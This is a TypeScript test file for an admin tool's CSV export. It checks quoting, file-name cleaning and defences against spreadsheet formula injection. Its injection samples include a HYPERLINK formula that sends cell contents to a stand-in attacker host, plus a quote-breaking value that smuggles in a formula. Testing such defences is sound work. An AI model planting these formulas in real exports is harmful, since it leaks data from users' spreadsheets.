import { describe, expect, it } from 'vitest'
import { csvOf, fileNameOf } from '../../admin-ui/src/kit/export/csv.ts'
import { linesOfCsv } from '../support/forms/csv.ts'

type Row = { readonly name: string; readonly note: string }

const columns = [
  { title: '이름', text: ({ name }: Row) => name },
  { title: '비고', text: ({ note }: Row) => note },
]

const row = (over: Partial<Row> = {}): Row => ({ name: '홍길동', note: '', ...over })
const cellsOf = (over: Partial<Row>): readonly string[] => linesOfCsv(csvOf(columns, [row(over)]))[1] ?? []

describe('a collection as CSV', () => {
  it('has a byte-order mark, headings, and a line a record', () => {
    expect(csvOf(columns, [row(), row({ name: '김철수', note: '부재' })])).toBe(
      '\uFEFF"이름","비고"\r\n"홍길동",""\r\n"김철수","부재"\r\n',
    )
  })

  it('of nothing is its headings', () => {
    expect(csvOf(columns, [])).toBe('\uFEFF"이름","비고"\r\n')
  })

  it.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('runs no cell as a formula: %j', (name) => {
    expect(csvOf(columns, [row({ name })])).toContain(`"'${name.replaceAll('"', '""')}"`)
  })

  it('runs no heading as a formula either', () => {
    expect(csvOf([{ title: '=1+1', text: ({ name }: Row) => name }], [])).toContain(`"'=1+1"`)
  })

  it('leaves no quote open: a text cannot begin a cell or a line of its own', () => {
    expect(cellsOf({ name: '홍","=1+1' })).toEqual(['홍","=1+1', ''])
    expect(linesOfCsv(csvOf(columns, [row({ name: '홍\r\n=1+1' })]))).toHaveLength(2)
  })

  it('leaves ordinary texts as they are', () => {
    const names = ['홍길동', "O'Neil", '김-이', '(주)한빛', '남궁 선', '010-1234-5678']
    expect(names.map((name) => cellsOf({ name })[0])).toEqual(names)
  })
})

describe('a file’s name', () => {
  it('holds nothing that a file system refuses', () => {
    expect(fileNameOf('정기총회 1/2: "찬반"?', '2026-11-21')).toBe('정기총회 1 2   찬반  -2026-11-21.csv')
  })
})
